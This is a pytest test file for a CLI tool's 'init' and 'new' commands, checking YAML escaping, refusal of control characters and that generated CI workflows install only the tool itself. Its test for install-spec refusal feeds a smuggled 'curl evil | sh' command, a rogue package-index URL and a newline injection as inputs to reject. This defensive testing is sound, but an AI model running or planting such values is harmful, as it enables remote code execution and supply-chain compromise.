"""`relsite init` and `relsite new` write valid YAML for any name, in an existing repository change
nothing they did not create, and say what they need or used when there is no terminal."""

from __future__ import annotations

import datetime as dt
import html
import json
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from bs4 import BeautifulSoup

from relsite.cli.install_spec import from_direct_url

from .conftest import build
from .support.commands import run_relsite

SPECIAL_NAMES = [
    "Acme: IT",
    '"Quoted',
    "- Dash",
    "*Star",
    "@At",
    "A #b",
    "{owner}",
    "? q",
    "|pipe",
    "&anchor",
    "!tag",
    "%percent",
    "yes",
    "1.10",
    "null",
    "ü & <b>bold</b>",
]


def _run(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return run_relsite(*args, cwd=cwd)


def _zizmor(*paths: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [str(Path(sys.executable).parent / "zizmor"), "--offline", "--persona=auditor", *map(str, paths)],
        capture_output=True,
        text=True,
    )


def _workflow_installs(folder: Path) -> set[str]:
    return {
        step["env"]["RELSITE_SPEC"]
        for path in folder.glob("*.yml")
        for job in yaml.safe_load(path.read_text())["jobs"].values()
        for step in job["steps"]
        if "RELSITE_SPEC" in step.get("env", {})
    }


# --- names --------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", SPECIAL_NAMES)
def test_init_writes_valid_yaml_for_a_name_with_yaml_specials(name: str, tmp_path: Path) -> None:
    result = _run("init", "--name", name, "--timezone", "UTC", cwd=tmp_path)
    assert result.returncode == 0, result.stdout + result.stderr
    assert yaml.safe_load((tmp_path / "mkdocs.yml").read_text())["site_name"] == f"{html.escape(name)} release portal"
    assert yaml.safe_load((tmp_path / "releases" / "portfolio.yaml").read_text())["name"] == name
    check = _run("validate", "--strict", cwd=tmp_path)
    assert check.returncode == 0, check.stdout


@pytest.mark.parametrize(
    "name", ["Acme\nsite_dir: /etc", "Bell\x07", "Tab\there", "Right\u202eleft", "Zero\u200bwidth"]
)
def test_init_refuses_a_name_with_a_control_or_invisible_character_and_writes_nothing(
    name: str, tmp_path: Path
) -> None:
    result = _run("init", "--name", name, "--timezone", "UTC", cwd=tmp_path)
    assert result.returncode == 2
    assert "--name" in result.stderr and "control or invisible character" in result.stderr
    assert list(tmp_path.iterdir()) == []


def _portal(tmp_path: Path, portfolio_edit: tuple[str, str] | None = None) -> Path:
    assert _run("init", "--name", "Acme", "--timezone", "UTC", cwd=tmp_path).returncode == 0
    if portfolio_edit:
        pf = tmp_path / "releases" / "portfolio.yaml"
        pf.write_text(pf.read_text().replace(*portfolio_edit))
    return tmp_path


NEW = ("new", "--service", "example-service", "--type", "minor", "--version", "1.1.0", "--prod-date", "2027-03-01")


def test_new_keeps_an_environment_title_with_a_line_break_inside_its_comment(tmp_path: Path) -> None:
    project = _portal(
        tmp_path, ("{name: test, title: Test,", '{name: test, title: "Test\\nstatus: closed\\nrisk: critical",')
    )
    result = _run(*NEW, "--title", "Checkout", cwd=project)
    assert result.returncode == 0, result.stdout + result.stderr
    data = yaml.safe_load((project / "releases" / "REL-2027-001.yaml").read_text())
    assert (data["status"], data["risk"], list(data["environments"])) == ("draft", "medium", ["prod"])
    assert _run("validate", "--strict", cwd=project).returncode == 0


@pytest.mark.parametrize("title", SPECIAL_NAMES)
def test_new_writes_any_title_as_one_value(title: str, tmp_path: Path) -> None:
    project = _portal(tmp_path)
    assert _run(*NEW, "--title", title, cwd=project).returncode == 0
    assert yaml.safe_load((project / "releases" / "REL-2027-001.yaml").read_text())["title"] == title


def test_new_refuses_values_validate_would_refuse_and_writes_nothing(tmp_path: Path) -> None:
    project = _portal(tmp_path)
    before = sorted((project / "releases").iterdir())
    result = _run(*NEW, "--title", "Bell\x07", cwd=project)
    assert result.returncode == 1
    assert (
        "releases/REL-2027-001.yaml:" in result.stderr
        and "U+0007" in result.stderr
        and "was not written" in result.stderr
    )
    assert sorted((project / "releases").iterdir()) == before


def test_new_without_a_terminal_names_the_options_it_needs(tmp_path: Path) -> None:
    project = _portal(tmp_path)
    result = _run("new", "--type", "minor", cwd=project)
    assert result.returncode == 2 and "Aborted" not in result.stderr
    assert "no terminal to ask on; pass --service, --title, --version, --prod-date" in result.stderr
    assert not list((project / "releases").glob("REL-2027-*"))


def test_init_and_new_write_the_same_release_skeleton(tmp_path: Path) -> None:
    project = _portal(tmp_path)
    example = next((project / "releases").glob("REL-*-001.yaml"))
    data = yaml.safe_load(example.read_text())
    prod = data["environments"]["prod"]["window"]["start"]
    day = (prod.date() if isinstance(prod, dt.datetime) else dt.datetime.fromisoformat(str(prod)).date()).isoformat()
    result = _run(
        "new",
        "--service",
        "example-service",
        "--type",
        "minor",
        "--title",
        data["title"],
        "--version",
        data["version"],
        "--prod-date",
        day,
        cwd=project,
    )
    assert result.returncode == 0, result.stderr
    made = (project / "releases" / example.name.replace("-001", "-002")).read_text()
    without_intro = [
        line for line in example.read_text().replace("-001", "-002").splitlines() if "example release" not in line
    ]
    assert made.splitlines() == without_intro


# --- an existing repository ---------------------------------------------------------------------


def _existing_site(tmp_path: Path) -> Path:
    (tmp_path / "mkdocs.yml").write_text("site_name: Handbook\ndocs_dir: handbook\nsite_dir: public\n")
    (tmp_path / "handbook").mkdir()
    (tmp_path / "handbook" / "index.md").write_text("# Our handbook\n")
    (tmp_path / ".github" / "workflows").mkdir(parents=True)
    (tmp_path / ".github" / "workflows" / "publish.yml").write_text(
        "name: publish\non: {push: {tags: ['v*']}}\njobs: {}\n"
    )
    return tmp_path


def test_init_writes_its_publish_workflow_beside_the_projects_own(tmp_path: Path) -> None:
    project = _existing_site(tmp_path)
    own = (project / ".github/workflows/publish.yml").read_bytes()
    result = _run("init", "--name", "H", "--timezone", "UTC", cwd=project)
    assert result.returncode == 0, result.stderr
    assert (project / ".github/workflows/publish.yml").read_bytes() == own
    assert "actions/deploy-pages" in (project / ".github/workflows/relsite-publish.yml").read_text()
    assert "publish.yml is not relsite's: relsite's workflow is .github/workflows/relsite-publish.yml" in result.stdout
    flows = project / ".github/workflows"
    assert (
        _zizmor(*(flows / name for name in ("validate.yml", "pr-comment.yml", "relsite-publish.yml"))).returncode == 0
    )


def test_the_workflows_follow_the_sites_docs_dir_and_site_dir(tmp_path: Path) -> None:
    project = _existing_site(tmp_path)
    assert _run("init", "--name", "H", "--timezone", "UTC", cwd=project).returncode == 0
    validate = yaml.safe_load((project / ".github/workflows/validate.yml").read_text())
    assert validate[True]["pull_request"]["paths"] == ["releases/**", "handbook/**", "mkdocs.yml"]
    publish = yaml.safe_load((project / ".github/workflows/relsite-publish.yml").read_text())
    steps = publish["jobs"]["build"]["steps"]
    assert [s["env"]["SITE_DIR"] for s in steps if "SITE_DIR" in s.get("env", {})] == ["public"]
    assert [s["with"]["path"] for s in steps if "upload-pages-artifact" in s.get("uses", "")] == ["public"]


def test_init_appends_only_the_missing_lines_to_gitignore(tmp_path: Path) -> None:
    project = _existing_site(tmp_path)
    (project / ".gitignore").write_text("node_modules\n.cache/")
    assert _run("init", "--name", "H", "--timezone", "UTC", cwd=project).returncode == 0
    text = (project / ".gitignore").read_text()
    assert text.startswith("node_modules\n.cache/\n")
    assert text.splitlines()[2:] == ["# relsite: the built site and caches", "/public/", "__pycache__/"]
    assert _run("init", "--name", "H", "--timezone", "UTC", cwd=project).returncode == 0
    assert (project / ".gitignore").read_text() == text


def test_init_without_a_terminal_says_which_defaults_it_used(tmp_path: Path) -> None:
    result = _run("init", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "no terminal: used --name 'Example Corp' and --timezone UTC (pass the options to choose)" in result.stdout


@pytest.mark.site
def test_a_portal_made_by_init_leads_from_its_nav_and_home_page_to_the_authors_guide(tmp_path: Path) -> None:
    assert _run("init", "portal", "--name", "Acme IT", "--timezone", "Europe/Berlin", cwd=tmp_path).returncode == 0
    built = build(tmp_path / "portal", today="2026-11-27")
    assert built.returncode == 0, built.stderr
    home = BeautifulSoup((tmp_path / "portal" / "site" / "index.html").read_text(), "html.parser")
    nav = {a["href"] for a in home.select("nav.md-nav--primary a[href]")}
    assert {"guides/propose/", "changing/"} <= nav
    assert home.select_one('article a[href="guides/propose/"]') is not None
    assert (tmp_path / "portal" / "site" / "guides" / "propose" / "index.html").is_file()


def test_init_run_again_without_a_terminal_claims_no_defaults_it_did_not_write(tmp_path: Path) -> None:
    assert _run("init", "--name", "Acme IT", "--timezone", "Europe/Berlin", cwd=tmp_path).returncode == 0
    again = _run("init", cwd=tmp_path)
    assert again.returncode == 0, again.stderr
    assert "no terminal" not in again.stdout
    assert 'name: "Acme IT"' in (tmp_path / "releases" / "portfolio.yaml").read_text()


# --- what the workflows install -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("spec", "requirement"),
    [
        ("1.4.2", "relsite==1.4.2"),
        (
            "https://files.example.com/relsite-1.4.2-py3-none-any.whl",
            "relsite @ https://files.example.com/relsite-1.4.2-py3-none-any.whl",
        ),
        ("git+https://github.com/relsite/relsite@v1.4.2", "relsite @ git+https://github.com/relsite/relsite@v1.4.2"),
        ("relsite>=1.4,<2", "relsite<2,>=1.4"),
    ],
)
def test_relsite_spec_sets_what_the_workflows_and_the_hook_install(spec: str, requirement: str, tmp_path: Path) -> None:
    result = _run("init", "--name", "A", "--timezone", "UTC", "--relsite-spec", spec, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert _workflow_installs(tmp_path / ".github/workflows") == {requirement}
    hook = yaml.safe_load((tmp_path / ".pre-commit-config.yaml").read_text())["repos"][0]["hooks"][0]
    assert hook["additional_dependencies"] == [requirement]
    assert _zizmor(tmp_path / ".github/workflows").returncode == 0


@pytest.mark.parametrize(
    "spec", ["requests==2.0", "--index-url=https://evil.example/simple", 'x"; curl evil | sh; "', "1.0\nrun: x", ""]
)
def test_relsite_spec_refuses_anything_but_relsite(spec: str, tmp_path: Path) -> None:
    result = _run("init", "--name", "A", "--timezone", "UTC", "--relsite-spec", spec, cwd=tmp_path)
    assert result.returncode == 2 and "--relsite-spec" in result.stderr
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("direct_url", "expected"),
    [
        (None, "relsite==0.3.0"),
        (
            {
                "url": "https://github.com/relsite/relsite",
                "vcs_info": {"vcs": "git", "commit_id": "a" * 40, "requested_revision": "v0.3.0"},
            },
            f"relsite @ git+https://github.com/relsite/relsite@{'a' * 40}",
        ),
        (
            {
                "url": "https://files.example.com/relsite-0.3.0-py3-none-any.whl",
                "archive_info": {"hashes": {"sha256": "0" * 64}},
            },
            "relsite @ https://files.example.com/relsite-0.3.0-py3-none-any.whl",
        ),
        ({"url": "file:///home/me/relsite", "dir_info": {"editable": True}}, "relsite==0.3.0"),
        ({"url": "file:///tmp/relsite-0.3.0-py3-none-any.whl", "archive_info": {}}, "relsite==0.3.0"),
    ],
)
def test_the_default_spec_is_where_relsite_was_installed_from_when_ci_can_reach_it(
    direct_url: dict[str, object] | None, expected: str
) -> None:
    assert from_direct_url(json.dumps(direct_url) if direct_url else None, "0.3.0") == expected


def test_init_refuses_a_name_validate_refuses_with_the_problem_and_writes_nothing(tmp_path: Path) -> None:
    result = _run("init", "portal", "--name", "x" * 300, "--timezone", "UTC", cwd=tmp_path)
    assert result.returncode == 2
    assert "portal/releases/portfolio.yaml:3:7: error: name is 300 characters long; the limit is 200" in result.stderr
    assert list(tmp_path.iterdir()) == []


def test_the_comment_workflow_follows_relsites_validate_workflow_not_one_of_the_same_name(tmp_path: Path) -> None:
    project = _existing_site(tmp_path)
    (project / ".github/workflows/validate.yml").write_text("name: validate\non: [push]\njobs: {}\n")
    assert _run("init", "--name", "H", "--timezone", "UTC", cwd=project).returncode == 0
    flows = {p.name: yaml.safe_load(p.read_text()) for p in (project / ".github/workflows").glob("*.yml")}
    assert flows["pr-comment.yml"][True]["workflow_run"]["workflows"] == [flows["relsite-validate.yml"]["name"]]
    assert flows["relsite-validate.yml"]["name"] != flows["validate.yml"]["name"]
